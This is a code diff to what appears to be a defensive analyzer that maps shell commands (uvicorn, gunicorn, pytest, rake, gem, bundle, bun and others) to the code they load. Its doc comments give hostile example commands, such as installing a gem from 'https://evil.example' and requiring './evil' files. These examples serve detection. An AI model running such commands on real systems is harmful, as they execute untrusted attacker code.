@@ -11,11 +11,11 @@
  */
 
 import { resolvePath } from '../../paths';
-import { parseCommand, type GrammarSpec, type OptionSpec, type ParsedCommand } from '../../shell/grammar';
+import type { ParsedCommand } from '../../shell/grammar';
 import { PACKAGE_ADDRESS } from '../../shell/wrappers';
 import { rubyLoaderFiles } from './preloadedModules';
 import type { ArgWord } from '../types';
-import { has, inDir, jsFiles, LISTING_ONLY, one, operandTexts, pythonModule, value, values, type Ctx, type Entry, type RunnerSpec } from './runnerKit';
+import { has, inDir, jsFiles, LISTING_ONLY, operandTexts, parseWith, pythonModule, value, values, type Ctx, type Entry, type RunnerSpec } from './runnerKit';
 
 /** A Python import root given by option (`--app-dir`, `--chdir`, `--pythonpath`), else the working folder; then PYTHONPATH. */
 export function pythonRoots(c: Ctx, given: readonly string[]): string[] {
@@ -38,9 +38,8 @@ export function moduleEntry(c: Ctx, spec: string | undefined, roots: readonly st
 /** An app server's `module:app` operand: the first operand that looks like one. */
 const APP_SPEC = /^[A-Za-z_][\w.]*(:[\w.()'", ]*)?$/;
 
-function appServer(valued: readonly string[], rootOptions: readonly string[], configOptions: readonly string[] = [], defaultConfig?: string, appVariable?: string): RunnerSpec {
+function appServer(rootOptions: readonly string[], configOptions: readonly string[] = [], defaultConfig?: string, appVariable?: string): RunnerSpec {
   return {
-    options: [...valued.map((n) => one(n)), ...rootOptions.map((n) => one(n)), ...configOptions.map((n) => one(n))],
     entries(p, c) {
       if (has(p, ...LISTING_ONLY)) return [];
       const roots = pythonRoots(c, values(p, ...rootOptions));
@@ -55,15 +54,9 @@ function appServer(valued: readonly string[], rootOptions: readonly string[], co
   };
 }
 
-const UVICORN_VALUED = ['--host', '--port', '--uds', '--fd', '--reload-dir', '--reload-include', '--reload-exclude', '--reload-delay', '--workers', '--loop', '--http', '--ws', '--ws-max-size', '--ws-max-queue', '--ws-ping-interval', '--ws-ping-timeout', '--lifespan', '--interface', '--env-file', '--log-config', '--log-level', '--root-path', '--limit-concurrency', '--backlog', '--limit-max-requests', '--timeout-keep-alive', '--timeout-graceful-shutdown', '--ssl-keyfile', '--ssl-certfile', '--ssl-keyfile-password', '--ssl-version', '--ssl-cert-reqs', '--ssl-ca-certs', '--ssl-ciphers', '--header', '--forwarded-allow-ips', '--h11-max-incomplete-event-size'];
-const GUNICORN_VALUED = ['-b', '--bind', '-w', '--workers', '-k', '--worker-class', '--threads', '-t', '--timeout', '--graceful-timeout', '--keep-alive', '--log-level', '--access-logfile', '--error-logfile', '--log-file', '-n', '--name', '-e', '--env', '-u', '--user', '-g', '--group', '--max-requests', '--max-requests-jitter', '-p', '--pid', '--certfile', '--keyfile', '--worker-connections', '--backlog', '--umask', '--log-config', '--paste', '--paste-global'];
-const HYPERCORN_VALUED = ['-b', '--bind', '-w', '--workers', '-k', '--worker-class', '--access-logfile', '--error-logfile', '--log-level', '--root-path', '--certfile', '--keyfile', '--ca-certs', '--graceful-timeout', '--keep-alive', '-u', '--user', '-g', '--group', '-p', '--pid', '--backlog', '--access-log-format', '--insecure-bind', '--quic-bind'];
-const DAPHNE_VALUED = ['-b', '--bind', '-p', '--port', '-u', '--unix-socket', '--fd', '-e', '--endpoint', '-v', '--verbosity', '-t', '--http-timeout', '--access-log', '--log-fmt', '--ping-interval', '--ping-timeout', '--root-path', '--application-close-timeout', '--websocket_timeout', '--websocket_connect_timeout', '--proxy-headers-host', '--proxy-headers-port', '--server-name'];
-const WAITRESS_VALUED = ['--host', '--port', '--listen', '--threads', '--url-scheme', '--url-prefix', '--ident', '--backlog', '--recv-bytes', '--send-bytes', '--connection-limit', '--cleanup-interval', '--channel-timeout', '--asyncore-loop-timeout', '--outbuf-overflow', '--inbuf-overflow', '--unix-socket', '--unix-socket-perms'];
 
 /** `celery -A proj worker`, `celery --app=proj.celery:app beat`: the app module. */
 const celery: RunnerSpec = {
-  options: [one('-A', '--app'), one('-b', '--broker'), one('--result-backend'), one('--loader'), one('--config'), one('--workdir'), one('-l', '--loglevel'), one('-c', '--concurrency'), one('-Q', '--queues'), one('-n', '--hostname'), one('--pidfile'), one('--logfile')],
   entries(p, c) {
     if (has(p, ...LISTING_ONLY)) return [];
     return moduleEntry(c, value(p, '-A', '--app') ?? c.exec.assignments['CELERY_APP'], pythonRoots(c, values(p, '--workdir')));
@@ -72,7 +65,6 @@ const celery: RunnerSpec = {
 
 /** `flask --app mod run`, `FLASK_APP=mod flask shell`: the app module (flask's own discovery of app.py/wsgi.py is the project's code). */
 const flask: RunnerSpec = {
-  options: [one('-A', '--app'), one('-e', '--env-file'), one('-h', '--host'), one('-p', '--port'), one('--cert'), one('--key'), one('--extra-files'), one('--exclude-patterns')],
   entries(p, c) {
     if (has(p, ...LISTING_ONLY)) return [];
     const app = value(p, '-A', '--app') ?? c.exec.assignments['FLASK_APP'];
@@ -85,7 +77,6 @@ const flask: RunnerSpec = {
 
 /** `DJANGO_SETTINGS_MODULE=x django-admin check`, `django-admin check --settings x --pythonpath .`: Django imports the settings module for every command. */
 const djangoAdmin: RunnerSpec = {
-  options: [one('--settings'), one('--pythonpath'), one('-v', '--verbosity'), one('--traceback')],
   entries(p, c) {
     if (has(p, ...LISTING_ONLY) || operandTexts(p).length === 0) return [];
     return moduleEntry(c, value(p, '--settings') ?? c.exec.assignments['DJANGO_SETTINGS_MODULE'], pythonRoots(c, values(p, '--pythonpath')));
@@ -97,22 +88,18 @@ export function wordsOf(text: string | undefined): ArgWord[] {
   return (text ?? '').split(/\s+/).filter((t) => t !== '' && !/[$`]/.test(t)).slice(0, 64).map((t) => ({ text: t, raw: t, dynamic: false, glob: false }));
 }
 
-const grammar = (...options: OptionSpec[]): GrammarSpec => ({ options, interspersed: true, unknownShort: 'switch', unknownLong: 'switch' });
-const PLUGIN_OPTION = grammar(one('-p'), one('-k'), one('-m'), one('-c'), one('-o'), one('--rootdir'));
-const RSPEC_FILE_OPTIONS = grammar(one('-r', '--require'), one('-I', '--libdir'), one('-f', '--format'), one('-o', '--out'), one('--order'), one('--seed'), one('-e', '--example'), one('-t', '--tag'), one('-P', '--pattern'), one('--default-path'));
 
 /** pytest's plugins named by variable: `PYTEST_PLUGINS=a,b` and `-p mod` in `PYTEST_ADDOPTS`. */
 function pytestVariables(c: Ctx): Entry[] {
   const env = c.exec.assignments;
   const names = (env['PYTEST_PLUGINS'] ?? '').split(',').map((n) => n.trim());
-  names.push(...values(parseCommand(wordsOf(env['PYTEST_ADDOPTS']), PLUGIN_OPTION), '-p'));
+  names.push(...values(parseWith('pytest', wordsOf(env['PYTEST_ADDOPTS'])), '-p'));
   const roots = pythonRoots(c, []);
   return names.filter((n) => n !== '' && !n.startsWith('no:')).slice(0, 4).flatMap((n) => moduleEntry(c, n, roots));
 }
 
 /** `python -m unittest mod.sub`, `python -m unittest tests/test_x.py`: each named module is imported. */
 const unittest: RunnerSpec = {
-  options: [one('-s', '--start-directory'), one('-p', '--pattern'), one('-t', '--top-level-directory'), one('-k')],
   entries(p, c) {
     const ops = operandTexts(p).filter((t) => t !== 'discover');
     if (ops.length === 0) return [{ files: [...c.list(c.exec.cwd, /^test.*\.py$/), ...c.list(`${c.exec.cwd}/tests`, /^test.*\.py$/)], as: 'python' }];
@@ -124,21 +111,17 @@ const unittest: RunnerSpec = {
 
 /** `python -m timeit -s 'import x' 'x.f()'`: the setup and the statements are Python run here. */
 const timeit: RunnerSpec = {
-  options: [one('-s', '--setup'), one('-n', '--number'), one('-r', '--repeat'), one('-u', '--unit')],
   entries: (p) => [...values(p, '-s', '--setup'), ...operandTexts(p)].slice(0, 8).map((code): Entry => ({ code, label: 'python -m timeit' })),
 };
 
 /** `python -m doctest x.py`: the module is imported (its top level runs) before its examples. */
 const doctest: RunnerSpec = {
-  options: [one('-o', '--option')],
   entries: (p, c) => [{ files: operandTexts(p).filter((t) => t.endsWith('.py')).map((t) => resolvePath(c.exec.cwd, t, c.w.facts.home)), as: 'python' }],
 };
 
 /** `c8 -r ./rep.js node app.js`, `nyc --require ./x.js --reporter ./rep.js mocha`: preloads and reporters loaded by path. */
 function coverageWrapper(requires: readonly string[]): RunnerSpec {
   return {
-    options: [one('-r', '--reporter'), ...requires.map((n) => one(n)), one('--reports-dir', '--report-dir', '-o'), one('--temp-directory', '--temp-dir'), one('-x', '--exclude'), one('-n', '--include'), one('--src'), one('-e', '--extension'), one('--nycrc-path'), one('--cwd')],
-    interspersed: false,
     entries: (p, c) => [{ files: jsFiles(c, values(p, '-r', '--reporter', ...requires)), as: 'javascript' }],
   };
 }
@@ -146,8 +129,6 @@ function coverageWrapper(requires: readonly string[]): RunnerSpec {
 /** `prettier --plugin ./x.mjs`: each plugin is imported; then its configuration as before. */
 export function withJsModules(base: RunnerSpec | undefined, options: readonly string[]): RunnerSpec {
   return {
-    options: [...(base?.options ?? []), ...options.map((n) => one(n))],
-    interspersed: base?.interspersed,
     entries(p, c) {
       if (has(p, ...LISTING_ONLY)) return [];
       return [{ files: jsFiles(c, values(p, ...options)), as: 'javascript' }, ...(base?.entries(p, c) ?? [])];
@@ -156,9 +137,8 @@ export function withJsModules(base: RunnerSpec | undefined, options: readonly st
 }
 
 /** `babel --config-file ./x.js src`, `babel src` (babel.config.js / .babelrc.js); `knex --knexfile ./x.js migrate:latest` (knexfile.js). */
-export function jsConfigFile(option: readonly string[], defaults: readonly string[], others: readonly string[] = []): RunnerSpec {
+export function jsConfigFile(option: readonly string[], defaults: readonly string[]): RunnerSpec {
   return {
-    options: [one(...option), ...others.map((n) => one(n))],
     entries(p, c) {
       if (has(p, ...LISTING_ONLY)) return [];
       const given = value(p, ...option);
@@ -170,7 +150,6 @@ export function jsConfigFile(option: readonly string[], defaults: readonly strin
 /** `rake -r ./evil x`, `thor -r ./x`, `cucumber -r ./steps.rb`: ruby files required by option, before the tool's own file. */
 function rubyRequires(base: RunnerSpec | undefined, name: string): RunnerSpec {
   return {
-    options: [...(base?.options ?? []), one('-r', '--require'), one('-I', '--libdir')],
     entries(p, c) {
       if (has(p, ...LISTING_ONLY)) return [];
       return [{ files: rubyLoaderFiles(c.w, name, values(p, '-r', '--require'), values(p, '-I', '--libdir'), c.exec, c.exec.assignments), as: 'ruby' }, ...(base?.entries(p, c) ?? [])];
@@ -181,7 +160,6 @@ function rubyRequires(base: RunnerSpec | undefined, name: string): RunnerSpec {
 /** The options in rspec's option files (`.rspec`, `.rspec-local`, `~/.rspec`): `--require x` loads x before the specs. */
 function rspecFiles(base: RunnerSpec | undefined): RunnerSpec {
   return {
-    options: base?.options,
     entries(p, c) {
       if (has(p, ...LISTING_ONLY)) return base?.entries(p, c) ?? [];
       const requires: string[] = [];
@@ -189,7 +167,7 @@ function rspecFiles(base: RunnerSpec | undefined): RunnerSpec {
       for (const file of [`${c.exec.cwd}/.rspec`, `${c.exec.cwd}/.rspec-local`, `${c.w.facts.home}/.rspec`]) {
         const text = c.w.readFile(file, c.w.viaOf(c.exec));
         if (text === undefined) continue;
-        const parsed = parseCommand(wordsOf(text), RSPEC_FILE_OPTIONS);
+        const parsed = parseWith('rspec', wordsOf(text));
         requires.push(...values(parsed, '-r', '--require'));
         libs.push(...values(parsed, '-I', '--libdir'));
       }
@@ -201,7 +179,6 @@ function rspecFiles(base: RunnerSpec | undefined): RunnerSpec {
 
 /** `prove -I. -MEvil t/`: perl modules loaded before the tests, from the folders given. */
 const prove: RunnerSpec = {
-  options: [one('-I'), one('-M'), one('-P'), one('-e', '--exec'), one('-j', '--jobs'), one('--ext'), one('--harness'), one('--formatter'), one('--rc'), one('--state')],
   entries(p, c) {
     if (has(p, ...LISTING_ONLY)) return [];
     const dirs = [...values(p, '-I'), ...(has(p, '-l', '--lib') ? ['lib'] : [])].map((d) => resolvePath(c.exec.cwd, d, c.w.facts.home));
@@ -212,7 +189,6 @@ const prove: RunnerSpec = {
 
 /** `phpunit --bootstrap x.php` (or phpunit.xml's `bootstrap="…"`): PHP run before the tests. */
 const phpunit: RunnerSpec = {
-  options: [one('--bootstrap'), one('-c', '--configuration'), one('--filter'), one('--testsuite'), one('--group'), one('--exclude-group'), one('--log-junit'), one('--coverage-html'), one('--coverage-clover')],
   entries(p, c) {
     if (has(p, ...LISTING_ONLY)) return [];
     const given = value(p, '--bootstrap');
@@ -251,8 +227,6 @@ function luaCodeLoads(c: Ctx, code: string): string[] {
 function luaLoads(base: RunnerSpec | undefined): RunnerSpec {
   return {
     // lua's own options: `-e stat` and `-l mod` take a value (each on its own: `-l` is not code), the rest are switches.
-    options: [one('-e'), one('-l')],
-    interspersed: false,
     entries(p: ParsedCommand, c: Ctx) {
       const env = c.exec.assignments;
       const init = env['LUA_INIT_5_4'] ?? env['LUA_INIT_5_3'] ?? env['LUA_INIT'];
@@ -274,7 +248,6 @@ function luaLoads(base: RunnerSpec | undefined): RunnerSpec {
 
 /** `busted --helper=x.lua`: Lua run before the specs. */
 const busted: RunnerSpec = {
-  options: [one('--helper'), one('-o', '--output'), one('-p', '--pattern'), one('-t', '--tags'), one('--exclude-tags'), one('-m', '--lpath'), one('--cpath'), one('-r', '--run'), one('-C', '--directory'), one('-f', '--config-file')],
   entries: (p, c) => [{ files: values(p, '--helper').map((f) => resolvePath(c.exec.cwd, f, c.w.facts.home)), as: 'program' }],
 };
 
@@ -283,7 +256,6 @@ const RUBYGEMS = /^https?:\/\/(rubygems\.org|gems\.ruby-lang\.org)\/?$/;
 
 /** `gem install evil -s https://evil.example`, `gem install ./x.gem`: a gem from another source, whose extension build runs unread. */
 const gem: RunnerSpec = {
-  options: [one('-s', '--source'), one('-v', '--version'), one('-i', '--install-dir'), one('-n', '--bindir'), one('--platform'), one('-P', '--trust-policy'), one('-g', '--file')],
   entries(p) {
     const [sub, ...names] = operandTexts(p);
     if (sub !== 'install' && sub !== 'i' && sub !== 'update') return [];
@@ -296,7 +268,6 @@ const gem: RunnerSpec = {
 
 /** `bundle add x --git URL` / `--source URL`; `bundle config build.x '--with-y-config=/tmp/z'` (the next install runs that program while building x). */
 const bundle: RunnerSpec = {
-  options: [one('--git'), one('--github'), one('--source'), one('--branch'), one('--ref'), one('--path'), one('-v', '--version'), one('-g', '--group'), one('--require')],
   entries(p, c) {
     const ops = operandTexts(p);
     if (ops[0] === 'add') {
@@ -316,7 +287,6 @@ const bundle: RunnerSpec = {
 /** `bun add github:evil/pkg`: a package from an address, as npm's `install github:…`. */
 function bunAddresses(base: RunnerSpec | undefined): RunnerSpec {
   return {
-    options: base?.options,
     entries(p, c) {
       const [sub, ...names] = operandTexts(p);
       const address = sub === 'add' || sub === 'a' || sub === 'install' || sub === 'i' ? names.find((n) => PACKAGE_ADDRESS.test(n) && !/^\.{0,2}\//.test(n)) : undefined;
@@ -330,26 +300,26 @@ function bunAddresses(base: RunnerSpec | undefined): RunnerSpec {
 export function withLoaderRunners(base: Readonly<Record<string, RunnerSpec>>): Record<string, RunnerSpec> {
   const own = (name: string): RunnerSpec | undefined => (Object.prototype.hasOwnProperty.call(base, name) ? base[name] : undefined);
   const pytest = own('pytest');
-  const withVariables: RunnerSpec | undefined = pytest && { options: pytest.options, interspersed: pytest.interspersed, entries: (p, c) => [...pytestVariables(c), ...pytest.entries(p, c)] };
+  const withVariables: RunnerSpec | undefined = pytest && { entries: (p, c) => [...pytestVariables(c), ...pytest.entries(p, c)] };
   const lua = Object.fromEntries(['lua', 'luajit', 'lua5.1', 'lua5.3', 'lua5.4'].map((n) => [n, luaLoads(own(n))]));
   return {
     ...base,
-    uvicorn: appServer(UVICORN_VALUED, ['--app-dir'], [], undefined, 'UVICORN_APP'),
-    granian: appServer(['--interface', '--host', '--port', '--workers', '--threads', '--blocking-threads', '--loop', '--http', '--ws', '--backlog', '--log-level', '--ssl-keyfile', '--ssl-certificate', '--url-path-prefix', '--reload-paths', '--working-dir'], ['--working-dir']),
-    taskiq: appServer(['--workers', '-w', '--log-level', '--max-async-tasks', '--tasks-pattern', '--fs-discover'], ['--app-dir']),
+    uvicorn: appServer(['app-dir'], [], undefined, 'UVICORN_APP'),
+    granian: appServer(['working-dir']),
+    taskiq: appServer(['app-dir']),
     // `rq worker -c settings_module`: rq imports its settings module.
-    rq: { options: [one('-c', '--config'), one('-u', '--url'), one('-w', '--worker-class'), one('-P', '--path')], entries: (p, c) => moduleEntry(c, value(p, '-c', '--config'), pythonRoots(c, values(p, '-P', '--path'))) },
-    gunicorn: appServer(GUNICORN_VALUED, ['--chdir', '--pythonpath'], ['-c', '--config'], 'gunicorn.conf.py'),
-    hypercorn: appServer(HYPERCORN_VALUED, [], ['-c', '--config']),
-    daphne: appServer(DAPHNE_VALUED, []),
-    'waitress-serve': appServer(WAITRESS_VALUED, []),
+    rq: { entries: (p, c) => moduleEntry(c, value(p, '-c', '--config'), pythonRoots(c, values(p, '-P', '--path'))) },
+    gunicorn: appServer(['chdir', 'pythonpath'], ['c', 'config'], 'gunicorn.conf.py'),
+    hypercorn: appServer([], ['c', 'config']),
+    daphne: appServer([]),
+    'waitress-serve': appServer([]),
     celery, flask, 'django-admin': djangoAdmin,
     ...(withVariables ? { pytest: withVariables, 'py.test': withVariables } : {}),
     unittest, timeit, doctest,
-    c8: coverageWrapper([]), nyc: coverageWrapper(['-i', '--require']),
-    prettier: withJsModules(own('prettier'), ['--plugin']),
-    babel: jsConfigFile(['--config-file'], ['babel.config.js', 'babel.config.cjs', 'babel.config.mjs', '.babelrc.js', '.babelrc.cjs'], ['-o', '--out-file', '-d', '--out-dir']),
-    knex: jsConfigFile(['--knexfile'], ['knexfile.js', 'knexfile.ts', 'knexfile.cjs', 'knexfile.mjs'], ['--cwd', '--env', '--migrations-directory']),
+    c8: coverageWrapper([]), nyc: coverageWrapper(['i', 'require']),
+    prettier: withJsModules(own('prettier'), ['plugin']),
+    babel: jsConfigFile(['config-file'], ['babel.config.js', 'babel.config.cjs', 'babel.config.mjs', '.babelrc.js', '.babelrc.cjs']),
+    knex: jsConfigFile(['knexfile'], ['knexfile.js', 'knexfile.ts', 'knexfile.cjs', 'knexfile.mjs']),
     rake: rubyRequires(own('rake'), 'rake'), thor: rubyRequires(own('thor'), 'thor'), cucumber: rubyRequires(own('cucumber'), 'cucumber'),
     rspec: rspecFiles(own('rspec')),
     prove, phpunit, busted, gem, bundle, bun: bunAddresses(own('bun')),
